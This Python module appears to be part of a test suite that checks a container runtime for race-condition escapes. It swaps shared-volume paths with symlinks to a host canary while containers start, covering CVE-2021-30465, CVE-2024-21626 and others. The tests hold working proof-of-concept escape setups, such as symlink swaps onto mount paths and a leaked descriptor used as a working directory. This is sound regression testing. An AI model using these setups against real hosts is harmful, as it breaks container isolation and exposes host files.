"""The holes that are races: a neighbour on another processor swaps paths of a shared volume all the time
(RENAME_EXCHANGE), while containers are started.

A hit is proven by what the host looks like afterwards (the canary, its mounts), by the mounts before the container
leaves the host's root (a createContainer hook writes them down), or by what a container sees from inside.
"""

import json
import os
import signal
import stat
import subprocess
import time
from collections.abc import Callable, Iterable
from pathlib import Path

from arena import PROMPT, SECRET, Arena, Hit, Table, expect, perform
from ground import Bundle, Outcome, snapshot
from holes.links import without
from holes.procfs import PORT, fake
from rows import Options, Row

TABLE = Table()


def rows(options: Options) -> Iterable[Row]:
    yield from perform(TABLE, options)


class Neighbour:
    """Swaps two paths from when it is made to when it is stopped, on a processor that the runtime does not use."""

    def __init__(self, arena: Arena, first: Path, second: Path, *words: str):
        processors = sorted(os.sched_getaffinity(0))
        if len(processors) > 1:
            os.sched_setaffinity(0, processors[:-1])
        self.process = arena.spawn(str(arena.tools / "exchange"), str(processors[-1]), str(first), str(second), *words,
                                   stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)

    def stop(self) -> int:
        """How often it swapped."""
        self.process.send_signal(signal.SIGTERM)
        out, err = self.process.communicate()
        expect(self.process.returncode == 0, f"the neighbour failed: {err.strip()}")
        return int(out)


class Race:
    """A shared volume, and rounds that are counted."""

    def __init__(self, arena: Arena):
        self.arena = arena
        self.volume = arena.ground.work / "volume"
        self.volume.mkdir()
        self.started = 0
        self.hits: list[str] = []

    def folder(self, name: str, *files: str) -> Path:
        path = self.volume / name
        path.mkdir()
        for file in files:
            (path / file).write_text("a file of the volume\n")
        return path

    def link(self, name: str, target: Path | str) -> Path:
        path = self.volume / name
        path.symlink_to(target)
        return path

    def run(self, bundle: Bundle, *flags: str, name: str = "") -> Outcome:
        outcome = self.arena.run(bundle, *flags, name=name)
        self.started += outcome.succeeded
        return outcome

    def look(self) -> str:
        """What changed on the host since the last look."""
        found = {"the canary": snapshot(self.arena.canary),
                 "the host's mounts": Path("/proc/self/mountinfo").read_text()}
        changed = [what for what, now in found.items() if now != self.arena.before[what]]
        self.arena.before |= found
        return f"{' and '.join(changed)} changed" if changed else ""

    def rounds(self, first: Path, second: Path, act: Callable[[int], str], *words: str) -> None:
        """Rounds until the time is over; `act` returns what proves a hit, or nothing."""
        neighbour = Neighbour(self.arena, first, second, *words)
        begin, number = time.monotonic(), 0
        while number == 0 or time.monotonic() < begin + self.arena.seconds:
            number += 1
            try:
                proof = act(number)
            except Hit as hit:
                proof = str(hit)
            if proof := "; ".join(filter(None, (proof, self.look()))):
                self.hits.append(proof)
        swaps = neighbour.stop()
        self.arena.figure = (f"{time.monotonic() - begin:.0f} s, {number:,} rounds, {self.started:,} started, "
                             f"{swaps:,} swaps")
        if self.hits:
            raise Hit(f"{len(self.hits)} of {number} rounds: {self.hits[0]}")
        expect(swaps > number, f"only {swaps} swaps in {number} rounds")
        expect(self.started, "not one round started")


def writes_mounts(bundle: Bundle) -> Path:
    """Has the container's mounts written down before it enters its root, when those of the host are there too."""
    path = bundle.path / "mounts"
    copy = {"path": "/bin/cp", "args": ["cp", "/proc/self/mountinfo", str(path)]}
    bundle.config["hooks"] = {"createContainer": [copy]}
    bundle.write()
    return path


def outside(arena: Arena, mounts: Path) -> str:
    """A mount of the container's that is not below its root, from what the hook has written."""
    if not mounts.exists():
        return ""
    points = [line.split()[4] for line in mounts.read_text().splitlines()]
    mounts.unlink()
    found = [point for point in points if point.startswith(str(arena.canary))]
    return f"mounted on {found[0]}" if found else ""


@TABLE.add("CVE-2021-30465", "a directory on the way to a mount point, and a link to the host's")
def way_to_mount_point(arena: Arena) -> None:
    race = Race(arena)
    first, second = race.folder("x"), race.link("x.ln", arena.canary)
    (first / "folder").mkdir()
    bundle = arena.bundle("cat /v/x/secret /v/x.ln/secret 2>/dev/null; true")
    arena.mount(bundle, "/v", race.volume, "bind", "rbind")
    arena.mount(bundle, "/v/x/folder", "tmpfs", "tmpfs", "rw")
    arena.mount(bundle, "/v/x/folder/below", bundle.rootfs / "bin")
    mounts = writes_mounts(bundle)

    def act(number: int) -> str:
        outcome = race.run(bundle)
        return "the container read the secret" if SECRET in outcome.out else outside(arena, mounts)

    race.rounds(first, second, act)


@TABLE.add("CVE-2024-45310", "the same where mount points have to be made")
def made_mount_points(arena: Arena) -> None:
    race = Race(arena)
    first, second = race.folder("a"), race.link("a.ln", arena.canary / "folder")
    file = arena.ground.work / "mounted"
    file.touch()
    bundle = arena.mount(arena.bundle(), "/v", race.volume)
    for _ in range(2):
        arena.mount(bundle, "", file)

    def act(number: int) -> str:
        bundle.config["mounts"][-2] |= {"destination": f"/v/a/{number}/file"}
        bundle.config["mounts"][-1] |= {"destination": f"/v/a/{number}/folder", "source": str(bundle.rootfs / "bin")}
        race.run(bundle.write())
        return ""

    race.rounds(first, second, act)


@TABLE.add("CVE-2025-31133", "/dev/null of the image, and a link to a file of the host, where paths are masked")
def masks(arena: Arena) -> None:
    race = Race(arena)
    second = race.link("null.ln", arena.canary / "file")
    first = race.volume / "null"
    os.mknod(first, stat.S_IFCHR | 0o666, os.makedev(1, 3))
    os.chmod(first, 0o666)
    bundle = arena.bundle("cat /masked /proc/keys; echo changed 2>/dev/null >/masked; true")
    without(bundle, "/dev", "/dev/pts")
    (bundle.rootfs / "masked").write_text("visible")
    bundle.config["linux"]["maskedPaths"] = ["/masked", "/proc/keys"]
    arena.mount(bundle, "/dev", race.volume).write()

    def act(number: int) -> str:
        outcome = race.run(bundle)
        return "" if not outcome.succeeded or not outcome.out else f"a masked file shows {outcome.out.strip()[:30]!r}"

    race.rounds(first, second, act)


@TABLE.add("CVE-2025-52881", "/proc of the image, and a link to a fake one, while sysctls are written")
def sysctl(arena: Arena) -> None:
    race = Race(arena)
    bundle = arena.bundle("sleep 100")
    tree = fake(bundle)
    first, second = bundle.rootfs / "proc", bundle.rootfs / "proc.ln"
    second.symlink_to("/v")
    bundle.config["mounts"].insert(0, {"destination": "/v", "type": "bind", "source": str(tree), "options": ["bind"]})
    bundle.config["linux"] |= {"maskedPaths": [], "readonlyPaths": [], "sysctl": {PORT.replace("/", "."): "81"}}
    bundle.config["linux"]["namespaces"] = [*bundle.config["linux"]["namespaces"], {"type": "network"}]
    bundle.write()

    def act(number: int) -> str:
        name = arena.name()
        proof = ""
        if race.run(bundle, "--detach", name=name).succeeded:
            pid = str(arena.runtime.state(name).get("pid", 0))
            seen = subprocess.run(["nsenter", "-t", pid, "-n", "cat", f"/proc/sys/{PORT}"], capture_output=True,
                                  text=True)
            proof = "" if seen.stdout.strip() == "81" else f"the sysctl is {seen.stdout.strip()} {seen.stderr.strip()}"
        if (arena.runtime.root / name).exists():
            arena.delete(name)
        changed = [str(path.relative_to(tree)) for path in tree.rglob("*")
                   if path.is_file() and path.read_text() != "untouched"]
        for path in changed:
            (tree / path).write_text("untouched")
        return f"wrote to {changed[0]} of the image" if changed else proof

    race.rounds(first, second, act)


def swapped_root(arena: Arena, name: str, change: Callable[[Bundle, int], None]) -> None:
    """A directory of the image, and a link to the canary, while mounts or devices are made there."""
    race = Race(arena)
    bundle = arena.bundle()
    first, second = bundle.rootfs / name, bundle.rootfs / f"{name}.ln"
    second.symlink_to(arena.canary)
    mounts = writes_mounts(bundle)
    original = list(bundle.config["mounts"])

    def act(number: int) -> str:
        bundle.config["mounts"] = list(original)
        change(bundle, number)
        race.run(bundle.write())
        return outside(arena, mounts)

    race.rounds(first, second, act)


@TABLE.add("CVE-2019-19921", "/proc of the image, and a link to a directory of the host")
def proc(arena: Arena) -> None:
    swapped_root(arena, "proc", lambda bundle, number: None)


@TABLE.add("CVE-2026-41579, CVE-2026-47766",
           "/dev of the image, a mount point or not, and a link to a directory of the host")
def devices(arena: Arena) -> None:
    def change(bundle: Bundle, number: int) -> None:
        if number % 2:
            without(bundle, "/dev", "/dev/pts")
    swapped_root(arena, "dev", change)


@TABLE.add("GHSA-3q8j", "a directory on the way to read-only and masked paths, and a link to another one")
def restricted_paths(arena: Arena) -> None:
    race = Race(arena)
    first, second = race.folder("ro", "secret"), race.link("ro.ln", "other")
    for folder in (first, race.folder("other", "secret")):
        (folder / "x").mkdir()
    bundle = arena.mount(arena.bundle("cat /proc/self/mountinfo"), "/v", race.volume)
    bundle.config["linux"] |= {"maskedPaths": ["/v/ro/secret"], "readonlyPaths": ["/v/ro/x"]}
    bundle.write()

    def act(number: int) -> str:
        outcome = race.run(bundle)
        if not outcome.succeeded:
            return ""
        lines = [line.split() for line in outcome.out.splitlines()]
        readonly = [words for words in lines if words[4].startswith("/v/") and words[4].endswith("/x")]
        masked = [words for words in lines if words[4].startswith("/v/") and words[4].endswith("/secret")]
        if len(readonly) != 1 or "ro" not in readonly[0][5].split(","):
            return f"read-only mounts: {[words[4:6] for words in readonly]}"
        # The neighbour's directory has the one name or the other, also between two words of a line.
        root, point = (path.replace("/ro.ln/", "/ro/") for path in readonly[0][3:5])
        if not root.endswith(f"/{race.volume.name}{point.removeprefix('/v')}"):
            return f"{root} is mounted on {point}"
        return "" if len(masked) == 1 else f"masks: {[words[4] for words in masked]}"

    race.rounds(first, second, act)


@TABLE.add("one look-up", "the mount point of a read-only tmpfs, and a link to another tmpfs")
def readonly_tmpfs(arena: Arena) -> None:
    race = Race(arena)
    first, second = race.folder("data"), race.link("data.ln", "/tmp")
    bundle = arena.mount(arena.bundle("grep size= /proc/self/mountinfo"), "/tmp", "tmpfs", "tmpfs", "rw", "size=1024k")
    arena.mount(bundle, "/v", race.volume)
    arena.mount(bundle, "/v/data", "tmpfs", "tmpfs", "ro", "size=2048k").write()

    def act(number: int) -> str:
        outcome = race.run(bundle)
        if not outcome.succeeded:
            return ""
        found = {size: line.split()[5].split(",")[0] for line in outcome.out.splitlines()
                 for size in ("1024k", "2048k") if f"size={size}" in line}
        return "" if found == {"1024k": "rw", "2048k": "ro"} else f"the first tmpfs and the read-only one are {found}"

    race.rounds(first, second, act)


@TABLE.add("renames", "renames somewhere else on the host, and an image with links that lead up")
def renames(arena: Arena) -> None:
    race = Race(arena)
    first = race.folder("somewhere")
    bundle = arena.bundle()
    for folder in ("var", "run", "a"):
        (bundle.rootfs / folder).mkdir()
    (bundle.rootfs / "var/run").symlink_to("../run")
    (bundle.rootfs / "var/long").symlink_to("../a/../a/../a/../a/../a/../a/../run")
    for name in ("run", "long"):
        arena.mount(bundle, f"/var/{name}/x-{name}", "tmpfs", "tmpfs", "rw")

    def act(number: int) -> str:
        outcome = race.run(bundle.write())
        return "" if outcome.succeeded else f"failed: {outcome.err.strip()[-120:]}"

    race.rounds(first, race.volume / "elsewhere", act, "away")


@TABLE.add("CVE-2024-21626", "the working directory of exec and run, and a link to a descriptor")
def working_directory(arena: Arena) -> None:
    race = Race(arena)
    first, second = race.folder("wd"), race.link("wd.ln", "/proc/self/fd/110")
    held = os.open(arena.canary, os.O_RDONLY | os.O_DIRECTORY)
    os.dup2(held, 110)
    script = f"cat secret ../secret {'../' * 30}{str(arena.canary)[1:]}/secret 2>/dev/null; true"
    bundle = arena.mount(arena.bundle("sleep 1000"), "/v", race.volume).write()
    name = arena.start(bundle, pass_fds=(110,))
    other = arena.mount(arena.bundle(script), "/v", race.volume)
    other.config["process"]["cwd"] = "/v/wd"
    other.write()

    def act(number: int) -> str:
        if number % 4:
            outcome = arena.exec(name, "/bin/sh", "-c", script, flags=("--cwd", "/v/wd"), pass_fds=(110,))
        else:
            outcome = arena.run(other, pass_fds=(110,))
        race.started += outcome.succeeded
        return "the secret was read" if SECRET in outcome.out else ""

    race.rounds(first, second, act)


@TABLE.add("sizes of files", "/etc/passwd of the image, and a FIFO")
def passwd(arena: Arena) -> None:
    race = Race(arena)
    bundle = arena.bundle("while read name id rest; do [ $name = Uid: ] && echo $id; done </proc/self/status; true")
    bundle.config["process"]["user"] = {"uid": 1000, "gid": 1000}
    first, second = bundle.rootfs / "etc/passwd", bundle.rootfs / "etc/passwd.fifo"
    first.write_text("a:x:1000:1000::/tmp:/bin/sh\n")
    os.mkfifo(second)
    bundle.write()

    def act(number: int) -> str:
        outcome = race.run(bundle)
        return "" if not outcome.succeeded or outcome.out.strip() == "1000" else f"runs as {outcome.out.strip()}"

    race.rounds(first, second, act)


@TABLE.add("image files", "a file that tmpcopyup copies, and a device without an end")
def copied_up(arena: Arena) -> None:
    race = Race(arena)
    bundle = arena.bundle("find /data -type f -size +64k")
    folder = bundle.rootfs / "data"
    folder.mkdir()
    first, second = folder / "file", folder / "other"
    first.write_text("small")
    os.mknod(second, stat.S_IFCHR | 0o666, os.makedev(1, 5))
    arena.mount(bundle, "/data", "tmpfs", "tmpfs", "tmpcopyup", "size=4096k").write()

    def act(number: int) -> str:
        outcome = race.run(bundle)
        is_copied = outcome.out.strip() or outcome.seconds > PROMPT / 2
        return f"a device was copied: {outcome.out.strip()}" if is_copied else ""

    race.rounds(first, second, act)


class Running:
    """A container that runs while mounts are added and removed, with the shared volume in it."""

    def __init__(self, arena: Arena, race: Race, change: Callable[[Bundle], None] = lambda bundle: None):
        self.arena, self.race = arena, race
        bundle = arena.mount(arena.bundle("sleep 1000"), "/v", race.volume)
        change(bundle)
        self.name = arena.start(bundle.write())
        self.pid = arena.runtime.state(self.name)["pid"]
        self.file = arena.ground.work / "mounts.json"

    def mounts(self, action: str, destination: str) -> Outcome:
        self.file.write_text(json.dumps([{"destination": destination, "type": "tmpfs", "source": "hot"}]))
        outcome = self.arena.call("mounts", action, self.name, str(self.file))
        self.race.started += outcome.succeeded
        return outcome

    def lines(self) -> list[list[str]]:
        return [line.split() for line in Path(f"/proc/{self.pid}/mountinfo").read_text().splitlines()]

    def hot(self) -> list[str]:
        """Where the added ones are."""
        return [words[4] for words in self.lines() if words[-2] == "hot"]

    def kept(self) -> list[str]:
        """Everything else that is mounted, under the name that a neighbour does not change."""
        return sorted(words[4] for words in self.lines() if words[-2] != "hot")


@TABLE.add("added mounts", "a directory on the way to one, and a link to the host's or to what the kernel shows", peers=())
def way_to_added_mount(arena: Arena) -> None:
    race = Race(arena)
    first = race.folder("x")
    (first / "acpi").mkdir()
    links = [race.link("x.ln", arena.canary), race.link("y.ln", "/proc"), race.link("z.ln", "/sys/fs/cgroup")]
    container = Running(arena, race)
    before = container.kept()

    def act(number: int) -> str:
        # In turn: one that is there on both ways, and one that has to be made.
        container.mounts("add", "/v/x/acpi" if number % 2 else f"/v/x/{number}")
        places = container.hot()
        # While names are exchanged the folder has that of the link. What is mounted through a link lies elsewhere.
        own = tuple(f"/v/{name}/" for name in ("x", "x.ln", "y.ln", "z.ln"))
        bad = [place for place in places if not place.startswith((*own, "/tmp", str(arena.canary)))]
        for place in places:
            outcome = container.mounts("remove", place)
            if outcome.succeeded and container.kept() != before:
                return f"lost: {set(before) - set(container.kept())}"
        return f"mounted on {bad[0]}" if bad else "" if set(before) <= set(container.kept()) else "a mount is lost"

    seconds, arena.seconds = arena.seconds, arena.seconds / len(links)
    for link in links:
        race.rounds(first, link, act)
    arena.seconds = seconds


@TABLE.add("removed mounts", "a directory on the way to one, and a link to a mask, to a read-only path, or to another mount",
           peers=())
def way_to_removed_mount(arena: Arena) -> None:
    race = Race(arena)

    def protect(bundle: Bundle) -> None:
        for name in ("secret", "fixed", "other"):
            (bundle.rootfs / name / "m").mkdir(parents=True)
        bundle.config["linux"]["maskedPaths"] += ["/secret/m"]
        bundle.config["linux"]["readonlyPaths"] += ["/fixed/m"]
        arena.mount(bundle, "/other/m", "tmpfs", "tmpfs")

    first = race.folder("x")
    (first / "m").mkdir()
    links = [race.link(f"{name}.ln", f"/{name}") for name in ("secret", "fixed", "other")]
    container = Running(arena, race, protect)
    before = container.kept()

    def act(number: int) -> str:
        if not container.hot():
            container.mounts("add", "/v/x/m")
        container.mounts("remove", "/v/x/m")
        lost = set(before) - set(container.kept())
        return f"lost: {lost}" if lost else ""

    seconds, arena.seconds = arena.seconds, arena.seconds / len(links)
    for link in links:
        race.rounds(first, link, act)
    arena.seconds = seconds
